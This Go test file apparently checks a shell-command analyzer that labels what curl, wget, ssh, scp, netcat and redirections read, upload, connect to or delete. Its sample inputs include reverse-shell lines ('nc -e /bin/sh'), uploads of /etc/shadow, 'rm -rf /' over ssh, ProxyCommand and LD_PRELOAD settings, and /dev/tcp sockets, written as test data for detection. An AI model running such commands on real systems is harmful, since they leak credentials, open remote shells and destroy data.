package grammar

import "testing"

// TestDownloads holds what curl and wget write, read and send (B8).
func TestDownloads(t *testing.T) {
	check(t, []sample{
		{`B8 -o x`, `curl -o /etc/hosts u`, `curl --output=/etc/hosts url:u | writes /etc/hosts, connects u`},
		{`B8 -ox`, `curl -o/etc/hosts u`, `curl --output=/etc/hosts url:u | writes /etc/hosts, connects u`},
		{`B8 -sox`, `curl -sSLo/etc/hosts u`, `curl --silent --show-error --location --output=/etc/hosts url:u | writes /etc/hosts, connects u`},
		{`B8 --output=`, `curl --output=/etc/hosts u`, `curl --output=/etc/hosts url:u | writes /etc/hosts, connects u`},
		{`B8 abbreviated`, `curl --dump-h /etc/hosts u`, `curl --dump-header=/etc/hosts url:u | writes /etc/hosts, connects u`},
		{`B8 -O`, `curl -O https://example.com/hosts; curl --output-dir /etc -O u`, "curl --remote-name url:https://example.com/hosts | connects https://example.com/hosts, writes hosts\ncurl --output-dir=/etc --remote-name url:u | writes /etc, connects u, writes /etc/index.html"},
		{`B8 wget -O`, `wget -qO/etc/hosts u; wget --output-document /etc/hosts u`, "wget --quiet --output-document=/etc/hosts url:u | writes /etc/hosts, connects u\nwget --output-document=/etc/hosts url:u | writes /etc/hosts, connects u"},
		{`B8 wget -P`, `wget -P /etc u; wget --directory-prefix=/etc u`, "wget --directory-prefix=/etc url:u | writes /etc, connects u, writes /etc/index.html\nwget --directory-prefix=/etc url:u | writes /etc, connects u, writes /etc/index.html"},
		{`B8 output to standard output`, `curl -o - u; wget -qO- u`, "curl --output=- url:u | connects u\nwget --quiet --output-document=- url:u | connects u"},
		{`file URL`, `curl file:///etc/shadow; curl FILE://localhost/etc/shadow`, "curl url:file:///etc/shadow | reads /etc/shadow\ncurl url:FILE://localhost/etc/shadow | reads /etc/shadow"},
		{`data`, `curl -d a=b -d @/etc/shadow --data-binary @- u`, `curl --data=a=b --data=@/etc/shadow --data-binary=@- url:u | uploads a=b, reads+uploads /etc/shadow, uploads ?, connects u`},
		{`data from a pipe`, `cat x | curl --data-binary @- u`, "cat file:x | reads x\ncurl --data-binary=@- url:u | uploads ?, connects u"},
		{`form`, `curl -F 'f=@/etc/shadow;type=x' -F a=me@x.org -F 'g=<a,b' --data-urlencode n@f u`, `curl --form=f=@/etc/shadow;type=x --form=a=me@x.org --form=g=<a,b --data-urlencode=n@f url:u | reads+uploads /etc/shadow, uploads me@x.org, reads+uploads a, reads+uploads b, reads+uploads f, connects u`},
		{`form not known`, `curl -F "f=@$x" -F text u`, `curl --form=f=@? --form=text url:u | reads+uploads ?, uploads text, connects u`},
		{`json and upload`, `curl --json '{}' -T /etc/shadow u; wget --post-file=/etc/shadow u`, "curl --json={} --upload-file=/etc/shadow url:u | uploads {}, reads+uploads /etc/shadow, connects u\nwget --post-file=/etc/shadow url:u | reads+uploads /etc/shadow, connects u, writes index.html"},
		{`headers and config`, `curl -H "A: $t" -K /x/cfg -x proxy:1 u`, `curl --header=A: ? --config=/x/cfg --proxy=proxy:1 url:u | uploads A: ?, reads /x/cfg, connects proxy:1, connects u`},
		{`unknown URL`, `curl "$u"`, `curl open url:? | connects ?`},
		{`wget execute`, `wget -e use_askpass=/x u`, `wget --execute=use_askpass=/x url:u | sets use_askpass /x, connects u, writes index.html`},
	})
}

// TestConnections holds ssh, scp and netcat.
func TestConnections(t *testing.T) {
	check(t, []sample{
		{`B18 -oX`, `ssh -oProxyCommand=x h`, `ssh -o=ProxyCommand=x host:h | sets proxycommand x, connects h`},
		{`B18 -o X`, `ssh -o ProxyCommand=x h`, `ssh -o=ProxyCommand=x host:h | sets proxycommand x, connects h`},
		{`B18 -o "X v", any case`, `ssh -o 'proxycommand x y' -o "LOCALCOMMAND = z" h`, `ssh -o=proxycommand x y -o=LOCALCOMMAND = z host:h | sets proxycommand x y, sets localcommand z, connects h`},
		{`B18 in a bundle`, `ssh -vo KnownHostsCommand=x h`, `ssh -v -o=KnownHostsCommand=x host:h | sets knownhostscommand x, connects h`},
		{`B18 after the host`, `ssh h -o ProxyCommand=x`, `ssh -o=ProxyCommand=x host:h | sets proxycommand x, connects h`},
		{`B18 -F`, `ssh -F cfg h`, `ssh -F=cfg host:h | reads cfg, connects h`},
		{`B18 scp`, `scp -o ProxyCommand=x -S /x/prog a h:`, `scp -o=ProxyCommand=x -S=/x/prog remote:a remote:h: | sets proxycommand x, runs /x/prog, reads+uploads a, connects h:, writes /home/~/a`},
		{`a key not known`, `ssh -o "$x" h`, `ssh -o=? host:h | sets ?, connects h`},
		{`remote command`, `ssh u@h 'rm -rf / && ls' ; ssh h sudo rm -rf /`, "ssh host:u@h words:rm -rf / && ls | connects u@h {rm away --recursive --force delete:/ | deletes tree /} {ls away}\nssh host:h words:sudo words:rm words:-rf words:/ | connects h {sudo away argv:rm argv:-rf argv:/ | elevates {rm away --recursive --force delete:/ | deletes tree /}}"},
		{`remote command not known`, `ssh h "rm $x"`, `ssh host:h words:rm ? | connects h, evaluates sh rm ? {rm open away delete:? | deletes tree? ?}`},
		{`remote home is not ours`, `ssh h 'rm -rf ~'`, `ssh host:h words:rm -rf ~ | connects h {rm away --recursive --force delete:/home/~ | deletes tree /home/~}`},
		{`forwarding`, `ssh -L 8080:x:80 -R 1:y:2 -D 0.0.0.0:1080 -J j h`, `ssh -L=8080:x:80 -R=1:y:2 -D=0.0.0.0:1080 -J=j host:h | listens 8080:x:80, listens 0.0.0.0:1080, connects j, connects h`},
		{`scp up and down`, `scp -r a b h:c; scp h:b .; scp -P 2 ./a:b u@h:`, "scp -r remote:a remote:b remote:h:c | reads+uploads a, reads+uploads b, connects h:c, writes /home/~/c\nscp remote:h:b remote:. | connects h:b, reads /home/~/b, writes .\nscp -P=2 remote:./a:b remote:u@h: | reads+uploads ./a:b, connects u@h:, writes /home/~/a:b"},
		{`B20 -e`, `nc -e /bin/sh h 1; netcat -c 'rm -rf /' h 1; ncat --sh-exec 'rm x' -l 1`, "nc --exec=/bin/sh host:h plain:1 | connects h {sh | runs /bin/sh, evaluates sh ??}\nnc --sh-exec=rm -rf / host:h plain:1 | connects h {rm --recursive --force delete:/ | deletes tree /}\nncat --sh-exec=rm x --listen listen:1 | listens, listens 1 {rm delete:x | deletes x}"},
		{`netcat by its names in Debian`, `nc.traditional -e /bin/sh h 1; nc.openbsd -l 1`, "nc --exec=/bin/sh host:h plain:1 | connects h {sh | runs /bin/sh, evaluates sh ??}\nnc --listen listen:1 | listens, listens 1"},
		{`where curl is led`, `curl --resolve a:80:1.2.3.4,[::1] --connect-to ::b:1 a`, "curl --resolve=a:80:1.2.3.4,[::1] --connect-to=::b:1 url:a | connects 1.2.3.4, connects [::1], connects b:1, connects a"},
		{`listening`, `nc -lvnp 4444; nc -l 0.0.0.0 80; ncat -lk 80`, "nc --listen --verbose --nodns --source-port=4444 | listens\nnc --listen listen:0.0.0.0 listen:80 | listens, listens 0.0.0.0, listens 80\nncat --listen --keep-open listen:80 | listens, listens 80"},
		{`connecting`, `nc -z h 22; nc -w 5 h 80 < /etc/shadow`, "nc -z host:h plain:22 | connects h\nnc --wait=5 host:h plain:80 | connects h, reads /etc/shadow"},
	})
}

// TestRedirections holds what redirections open (C6).
func TestRedirections(t *testing.T) {
	check(t, []sample{
		{`out`, `echo x > /etc/hosts; echo x >> a; echo x >| b; echo x &> c; echo x &>> d`, "echo plain:x | writes /etc/hosts\necho plain:x | writes a\necho plain:x | writes b\necho plain:x | writes c\necho plain:x | writes d"},
		{`descriptors are no files`, `ls 2>&1 >&2 2>&- 3<&0 4>&5-`, `ls`},
		{`both ways`, `cat <> f; ls >& g; ls >&"$x"`, "cat | reads+writes f\nls | writes g\nls | writes ??"},
		{`alone`, `> /etc/hosts`, `true | writes /etc/hosts`},
		{`sockets`, `cat < /dev/tcp/h/80; echo x > /dev/udp/"$h"/53`, "cat | connects h:80\necho plain:x | connects ?/53"},
		{`around a group`, `{ ls; } > f`, `ls | writes f`},
		{`pipes are no files`, `diff <(ls) <(ls); ls > >(cat)`, "ls\nls\ndiff file:? file:?\ncat\nls"},
		{`assignments`, `PATH=/x:$PATH ls; A=1; LD_PRELOAD=./x ls`, "ls | sets PATH /x:?\n- | sets A 1\nls | sets LD_PRELOAD ./x"},
	})
}
